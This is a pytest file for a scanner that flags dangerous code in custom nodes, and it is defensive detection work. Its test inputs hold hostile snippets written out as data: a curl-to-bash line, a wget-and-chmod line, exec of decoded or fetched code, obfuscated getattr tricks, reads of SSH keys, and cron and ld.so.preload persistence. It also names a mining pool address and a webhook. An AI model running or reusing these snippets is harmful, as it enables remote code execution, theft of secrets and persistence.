"""What the look at custom nodes finds, and what it leaves alone."""

from pathlib import Path

import pytest

from catalyst.models.scan import child, nodes
from catalyst.models.scan.rules import RULES

FOUND = {
    "exec of base64": ("import base64\nexec(base64.b64decode('eA=='))", {"node-exec-decoded": 2}),
    "exec of a variable that was decoded": ("import zlib\nx = zlib.decompress(b'')\ny = 1\nexec(x.decode())",
    {"node-exec-decoded": 4}),
    "exec of what was fetched": ("import requests as r\nexec(r.get('http://x').text)", {"node-exec-decoded": 2}),
    "eval of an input": ("def f(self, code):\n    return eval(code)", {"node-exec": 2}),
    "an alias": ("from os import system as s\ns(input())", {"node-shell": 2}),
    "an alias by assignment": ("import os\nrun = os.system\nrun(x)", {"node-shell": 3}),
    "__import__": ("__import__('os').system(x)", {"node-shell": 1}),
    "vars of builtins": ("import builtins\nvars(builtins)['ev' + 'al'](x)", {"node-hidden-name": 2}),
    "getattr put together": ("import os\ngetattr(os, 'sys' + 'tem')(x)", {"node-hidden-name": 2}),
    "import put together": ("__import__('su' + 'bprocess')", {"node-hidden-name": 1}),
    "pip": ("import subprocess, sys\nsubprocess.check_call([sys.executable, '-m', 'pip', 'install', 'x'])",
    {"node-runtime-install": 2}),
    "pip by shell": ("import os\nos.system('pip3 install requests')", {"node-runtime-install": 2}),
    "pip as a module": ("import pip\npip.main(['install', 'x'])", {"node-runtime-install": 2}),
    "curl to a shell": ("import os\nos.system('curl http://x | bash')", {"node-download-and-run": 2}),
    "wget and chmod": ("import subprocess as sp\nsp.run('wget http://x -O /tmp/x && chmod +x /tmp/x', shell=True)",
                       {"node-download-and-run": 2}),
    "shell=True": ("import subprocess\nsubprocess.run(f'ls {x}', shell=True)", {"node-shell": 2}),
    "pickle": ("import pickle\npickle.load(f)", {"node-unpickle": 2}),
    "torch.load": ("import torch\ntorch.load(f)\ntorch.load(f, weights_only=False)", {"node-unpickle": 3}),
    "numpy": ("import numpy as np\nnp.load(f, allow_pickle=True)", {"node-unpickle": 2}),
    "a webhook": ("URL = 'https://discord.com/api/webhooks/1/x'", {"node-indicator": 1}),
    "a pool in bytes": ("URL = b'stratum+tcp://pool.supportxmr.com:3333'", {"node-indicator": 1}),
    "metadata": ("URL = 'http://169.254.169.254/latest'", {"node-indicator": 1}),
    "ssh keys": ("open('/root/.ssh/id_rsa')", {"node-secrets": 1}),
    "cron": ("open('/etc/cron.d/x', 'w')", {"node-persistence": 1}),
    "ld.so.preload in an f-string": ("open(f'{root}/etc/ld.so.preload')", {"node-persistence": 1}),
}  # fmt: skip

QUIET = {
    "plain": "import torch\n\nclass Node:\n    def run(self, x):\n        return (x * 2,)\n",
    "weights_only": "import torch\ntorch.load(f, weights_only=True)",
    "a model's eval": "model.eval()\nself.eval()\nre.compile('x')",
    "literal_eval": "import ast\nast.literal_eval(x)",
    "a constant": "eval('1 + 1')",
    "getattr of a node": "getattr(self, name)\ngetattr(torch, 'float' + '16')",
    "a plug-in loader": "import importlib\nimportlib.import_module(name)",
    "subprocess with a list": "import subprocess\nsubprocess.run(['ffmpeg', '-i', path])",
    "base64 of a picture": "import base64\nx = base64.b64decode(data)",
    "safe yaml": "import yaml\nyaml.safe_load(x)\nyaml.load(x, Loader=yaml.SafeLoader)",
}


@pytest.mark.parametrize(("source", "expected"), FOUND.values(), ids=FOUND)
def test_found_with_its_line(source: str, expected: dict[str, int]) -> None:
    found = {one.rule: one.line for one in nodes.python("a.py", source.encode())}
    assert found.items() >= expected.items()


@pytest.mark.parametrize("source", QUIET.values(), ids=QUIET)
def test_left_alone(source: str) -> None:
    assert nodes.python("a.py", source.encode()) == []


def test_scripts_that_start_early(tmp_path: Path) -> None:
    for name in ("prestartup_script.py", "install.py"):
        (tmp_path / name).write_text("pass")
        assert [one.rule for one in child.examine(str(tmp_path / name))[1]] == ["node-starts-early"]


@pytest.mark.parametrize("line", ["openai @ https://x/openai-1.30.2.whl", "git+https://x/y", "https://x/y.whl",
    "--extra-index-url http://x",
                                  "-i http://x", "./wheel", "  --trusted-host x"])  # fmt: skip
def test_requirements_by_address(line: str) -> None:
    found = list(nodes.requirements("requirements.txt", f"torch>=2\n{line}\n".encode()))
    assert [(one.rule, one.line) for one in found] == [("node-requirement-by-address", 2)]


@pytest.mark.parametrize("line", ["torch>=2.6", "# see https://x", "numpy==1.26 ; python_version < '3.12'",
    "a[b]~=1.0  # git+x"])
def test_requirements_by_name(line: str) -> None:
    assert not list(nodes.requirements("requirements.txt", line.encode()))


@pytest.mark.parametrize("source", [b"def (", b"\0", "x = 'é".encode("latin-1"), b"(" * 5000 + b")" * 5000,
    b"print 'two'"])
def test_what_cannot_be_read_is_not_judged(tmp_path: Path, source: bytes) -> None:
    (tmp_path / "a.py").write_bytes(source)
    assert child.examine(str(tmp_path / "a.py"))[0].unjudged


def test_every_rule_is_found_by_some_test() -> None:
    """Of those about nodes; the corpus has the others."""
    seen = {rule for _, expected in FOUND.values() for rule in expected} | {"node-starts-early",
        "node-requirement-by-address"}
    assert {one for one in RULES if one.startswith("node-")} == seen
